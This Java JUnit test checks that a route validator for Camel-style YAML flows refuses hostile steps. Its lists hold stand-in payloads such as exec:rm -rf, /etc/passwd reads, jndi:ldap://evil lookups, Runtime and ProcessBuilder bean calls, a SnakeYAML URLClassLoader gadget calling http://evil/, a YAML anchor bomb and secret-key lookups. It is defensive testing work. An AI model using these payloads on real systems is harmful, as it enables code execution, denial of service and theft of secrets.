package dev.drover.flows;

import static org.assertj.core.api.Assertions.assertThat;

import dev.drover.flows.check.RouteCheck;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/**
 * A route is code, and whoever may change one must not get more than routes may do: no programs,
 * files, classes, scripts or secrets. Each of these is refused at its line, before anything of it
 * is loaded.
 */
class HostileFlowsTest {
  private static final Path HOME = Path.of(System.getProperty("drover.home"));

  /** Endpoints that no flow of a mall may have, whatever carries them. */
  private static final List<String> ENDPOINTS =
      List.of(
          "exec:rm?args=-rf",
          "file:/etc?fileName=passwd",
          "file:{{drover.keys}}",
          "ftp://evil/x",
          "sftp://evil/x",
          "smb://evil/x",
          "ssh:evil",
          "docker:ps",
          "kubernetes-pods:evil",
          "jdbc:dataSource",
          "sql:select 1",
          "spring-jdbc:x",
          "ldap:evil",
          "jndi:ldap://evil/x",
          "rmi:evil",
          "jms:queue:x",
          "netty:tcp://0.0.0.0:9",
          "mina:tcp://0.0.0.0:9",
          "smtp:evil",
          "language:groovy:Runtime.runtime",
          "language:simple:classpath:x",
          "class:java.lang.Runtime",
          "bean:java.lang.Runtime?method=getRuntime",
          "bean:type:java.lang.Runtime",
          "groovy:x",
          "script:x",
          "xslt:http://evil/x.xsl",
          "xslt-saxon:x",
          "xquery:x",
          "validator:http://evil/x.xsd",
          "velocity:x",
          "freemarker:x",
          "mvel:x",
          "jolt:x",
          "stream:out",
          "controlbus:route?routeId=x&action=stop",
          "controlbus:language:simple",
          "dynamic-router:x",
          "mock:x",
          "stub:x",
          "seda:x",
          "vm:x",
          "dataset:x",
          "browse:x",
          "ref:x",
          "quartz:x",
          "cron:x",
          "rest-api:x",
          "vertx-websocket:x",
          "netty-http:http://0.0.0.0/x",
          "jetty:http://0.0.0.0/x",
          "servlet:x",
          "undertow:http://0.0.0.0/x",
          "platform-http:/evil",
          "kamelet:http://evil/x",
          "kamelet:validate-action?location=http://evil/",
          "kamelet:nobody-action",
          "direct:nobody");

  /** Expressions of every kind that reach beyond the message. */
  private static final List<String> EXPRESSIONS =
      List.of(
          "simple: \"${bean:java.lang.Runtime}\"",
          "simple: \"${bean:type:java.lang.Runtime?method=getRuntime}\"",
          "simple: \"${type:java.lang.System.out}\"",
          "simple: \"${body.class.classLoader}\"",
          "simple: \"${body.getClass().forName('x')}\"",
          "simple: \"${exchange.context.registry}\"",
          "simple: \"${camelContext.shutdown}\"",
          "simple: \"${camelContext.propertiesComponent}\"",
          "simple: \"${env:DROVER_KEYS}\"",
          "simple: \"${env.DROVER_KEYS}\"",
          "simple: \"${sysenv.DROVER_KEYS}\"",
          "simple: \"${sys.user.home}\"",
          "simple: \"${properties:drover.keys}\"",
          "simple: \"${ref:callerTokens}\"",
          "simple: \"${bodyAs(java.lang.Runtime)}\"",
          "simple: \"${mandatoryBodyAs(java.net.URL)}\"",
          "simple: \"${headerAs(x,java.lang.Runtime)}\"",
          "simple: \"resource:file:/etc/passwd\"",
          "simple: \"resource:http://evil/x\"",
          "simple: \"{{env:DROVER_KEYS}}\"",
          "simple: \"{{sys:user.home}}\"",
          "simple: \"{{service:evil}}\"",
          "simple: \"{{vault:x}}\"",
          "simple: \"{{nobody.knows}}\"",
          "constant: \"resource:file:/etc/passwd\"",
          "constant: \"{{env:DROVER_KEYS}}\"",
          "groovy: \"Runtime.runtime.exec('x')\"",
          "js: \"x\"",
          "java: \"x\"",
          "joor: \"x\"",
          "mvel: \"x\"",
          "ognl: \"x\"",
          "python: \"x\"",
          "spel: \"x\"",
          "xpath: \"x\"",
          "xquery: \"x\"",
          "jsonpath: \"x\"",
          "datasonnet: \"x\"",
          "wasm: \"x\"",
          "csimple: \"x\"",
          "jq: \"env\"",
          "jq: \"$ENV.DROVER_KEYS\"",
          "method:\n    ref: java.lang.Runtime\n    method: getRuntime",
          "method:\n    beanType: java.lang.Runtime\n    method: getRuntime",
          "ref: nobody");

  /** Whole steps. */
  private static final List<String> STEPS =
      List.of(
          "- bean:\n    id: x\n    beanType: java.lang.Runtime\n    method: getRuntime",
          "- bean:\n    id: x\n    ref: \"#class:java.lang.ProcessBuilder('x')\"\n    method: start",
          "- bean:\n    id: x\n    ref: \"#type:java.lang.Runtime\"\n    method: exit",
          "- bean:\n    id: x\n    ref: mallStore\n    method: getClass",
          "- process:\n    id: x\n    ref: \"#class:evil.Processor\"",
          "- script:\n    id: x\n    groovy: x",
          "- toD:\n    id: x\n    uri: \"${header.where}\"",
          "- recipientList:\n    id: x\n    simple: \"${header.where}\"",
          "- routingSlip:\n    id: x\n    simple: \"${header.where}\"",
          "- dynamicRouter:\n    id: x\n    simple: \"${header.where}\"",
          "- enrich:\n    id: x\n    simple: \"${header.where}\"",
          "- pollEnrich:\n    id: x\n    simple: \"file:/etc\"\n    timeout: \"1\"",
          "- unmarshal:\n    id: x\n    json:\n      unmarshalType: java.lang.Runtime",
          "- unmarshal:\n    id: x\n    json:\n      allowUnmarshallType: true",
          "- unmarshal:\n    id: x\n    custom:\n      ref: evil",
          "- unmarshal:\n    id: x\n    yaml:\n      typeFilter: []",
          "- marshal:\n    id: x\n    jacksonXml: {}",
          "- unmarshal:\n    id: x\n    avro: {}",
          "- convertBodyTo:\n    id: x\n    type: java.lang.Runtime",
          "- throwException:\n    id: x\n    exceptionType: evil.Exception\n    message: x",
          "- throwException:\n    id: x\n    ref: evil",
          "- policy:\n    id: x\n    ref: evil\n    steps: []",
          "- transacted:\n    id: x\n    ref: evil",
          "- saga:\n    id: x\n    steps: []",
          "- claimCheck:\n    id: x\n    operation: Set\n    key: x",
          "- threads:\n    id: x",
          "- wireTap:\n    id: x\n    uri: direct:nobody",
          "- tokenizer:\n    id: x\n    langChain4jWordTokenizer: {}",
          "- kamelet:\n    id: x\n    name: http://evil/x",
          "- setProperty:\n    id: x\n    name: CamelToEndpoint\n    groovy: x",
          "- setHeader:\n    id: x\n    name: CamelHttpUri\n    constant: http://evil/",
          "- setHeader:\n    id: x\n    name: CamelBeanMethodName\n    constant: getClass",
          "- setHeader:\n    id: x\n    name: CamelLanguageScript\n    constant: x",
          "- setHeader:\n    id: x\n    name: CamelExecCommandExecutable\n    constant: x",
          "- idempotentConsumer:\n    id: x\n    idempotentRepository: evil\n    simple: x\n    steps: []",
          "- aggregate:\n    id: x\n    aggregationStrategy: \"#class:evil.Strategy\"\n    steps: []",
          "- serviceCall:\n    id: x\n    name: evil",
          "- sort:\n    id: x\n    comparator: evil\n    simple: x",
          "- resume:\n    id: x\n    resumeStrategy: evil");

  /** What stands beside routes, as a file of its own. */
  private static final List<String> FILES =
      List.of(
          "- beans:\n    - name: x\n      type: java.lang.ProcessBuilder\n",
          "- beans:\n    - name: x\n      type: x\n      scriptLanguage: groovy\n      script: x\n",
          "- dataFormats:\n    json:\n      id: x\n",
          "- routeTemplate:\n    id: x\n    from:\n      uri: direct:x\n      steps: []\n",
          "- templatedRoute:\n    routeTemplateRef: x\n",
          "- interceptFrom:\n    steps:\n      - stop: {}\n",
          "- intercept:\n    steps:\n      - stop: {}\n",
          "- interceptSendToEndpoint:\n    uri: direct:x\n    steps: []\n",
          "- onCompletion:\n    steps: []\n",
          "- onException:\n    onException: []\n",
          "- errorHandler:\n    deadLetterChannel:\n      deadLetterUri: exec:x\n",
          "- restConfiguration:\n    host: 0.0.0.0\n",
          "- rest:\n    get:\n      - path: /evil\n        to: direct:x\n",
          "- from:\n    uri: exec:x\n    steps: []\n",
          "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\n",
          "- route: !!java.lang.Runtime {}\n",
          "- route: &a\n    id: x\n    from: *a\n",
          "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n",
          "[".repeat(20_000) + "\n",
          "{".repeat(20_000) + "\n",
          "- ".repeat(20_000) + "x\n",
          "- route:\n    id: \"\\0\"\n",
          "apiVersion: camel.apache.org/v1\nkind: Pipe\nmetadata:\n  name: x\nspec: {}\n",
          "apiVersion: camel.apache.org/v1\nkind: Integration\nmetadata:\n  name: x\nspec: {}\n");

  @TempDir Path directory;
  private Path bundle;
  private final Map<String, int[]> places = new TreeMap<>();
  private int number;

  private static RouteCheck check;

  @BeforeAll
  static void prepare() {
    check = new RouteCheck();
  }

  @BeforeEach
  void bundle() throws IOException {
    bundle = Files.createDirectories(directory.resolve("routes/orchestrator"));
    Files.copy(HOME.resolve("routes/orchestrator/beans.txt"), bundle.resolve("beans.txt"));
  }

  @Test
  void noStepOfThemPasses() {
    for (String uri : ENDPOINTS) {
      write("- to:\n    id: x\n    uri: \"" + uri + "\"");
      write("- wireTap:\n    id: x\n    uri: \"" + uri + "\"");
      write("- toD:\n    id: x\n    uri: \"" + uri + "\"");
      write("- enrich:\n    id: x\n    constant: \"" + uri + "\"");
      write("- pollEnrich:\n    id: x\n    timeout: \"1\"\n    constant: \"" + uri + "\"");
    }
    for (String expression : EXPRESSIONS) {
      String nested = expression.replace("\n", "\n      ");
      write("- setBody:\n    id: x\n    expression:\n      " + nested);
      write(
          "- filter:\n    id: x\n    expression:\n      "
              + nested
              + "\n    steps:\n      - stop:\n          id: y");
    }
    STEPS.forEach(this::write);
    String harmless = "simple:\n        expression: \"${body}\"";
    write("- setBody:\n    id: x\n    expression:\n      " + harmless);
    assertThat(places).hasSizeGreaterThan(300);
    assertThat(passed()).singleElement().asString().contains("${body}");
  }

  @ParameterizedTest
  @FieldSource("FILES")
  void noFileOfThemPasses(String text) {
    file(text, 1, Integer.MAX_VALUE);
    assertThat(passed()).isEmpty();
  }

  /** What has no finding in its lines. */
  private List<String> passed() {
    List<Finding> findings =
        check.check(HOME, directory.resolve("routes"), HOME.resolve("kamelets"));
    List<String> passed = new ArrayList<>();
    places.forEach(
        (file, lines) -> {
          boolean refused =
              findings.stream()
                  .anyMatch(
                      finding ->
                          finding.file().endsWith(file)
                              && finding.line() >= lines[0]
                              && finding.line() <= lines[1]);
          if (!refused) {
            passed.add(read(bundle.resolve(file)).lines().skip(lines[0] - 1L).toList().toString());
          }
        });
    return passed;
  }

  /** A route with this step, which is all that is wrong with it. */
  private void write(String step) {
    String head =
        """
        # Document 1, section 10
        # In: nothing
        # Out: nothing

        # It is there to be refused.
        - route:
            id: hostile-step%1$d-try
            description: A step
            group: hostile
            nodePrefixId: hostile%1$d-
            routeConfigurationId: pass-errors
            from:
              id: from
              description: Nobody
              uri: direct:hostile-%1$d
              steps:
        """
            .formatted(number);
    int begin = (int) head.lines().count() + 1;
    String described = step.replaceFirst("id: x", "id: x\n    description: Do what it says");
    String indented = described.indent(8);
    file(head + indented, begin, begin + (int) indented.lines().count() - 1);
  }

  private void file(String text, int from, int to) {
    String name = "9%d-hostile.camel.yaml".formatted(number++);
    try {
      Files.writeString(bundle.resolve(name), text);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    places.put(name, new int[] {from, to});
  }

  private static String read(Path file) {
    try {
      return Files.readString(file);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
